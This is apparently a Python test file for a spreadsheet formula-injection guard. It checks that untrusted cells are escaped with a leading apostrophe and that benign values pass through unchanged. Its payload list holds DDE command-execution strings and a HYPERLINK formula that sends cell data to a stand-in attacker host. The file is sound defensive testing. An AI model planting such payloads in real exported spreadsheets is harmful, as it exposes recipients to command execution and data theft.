"""No cell that comes from somebody else is run by a spreadsheet."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailgrid.formula import guarded, unguarded

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "+1,2;=cmd",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_e8_a_formula_stands_behind_an_apostrophe(payload: str) -> None:
    assert guarded(payload) == f"'{payload}"


@pytest.mark.parametrize("cell", ["", "Ann", "-5", "+49 30 1234", "-1,234.5", "a=1", "p@mail.example", "'quoted'"])
def test_what_is_none_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell


@given(st.text() | st.text("'=+-@ \t\r\n1a"))
def test_nothing_is_lost(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert guarded(cell).lstrip()[:1] not in {"=", "@"}
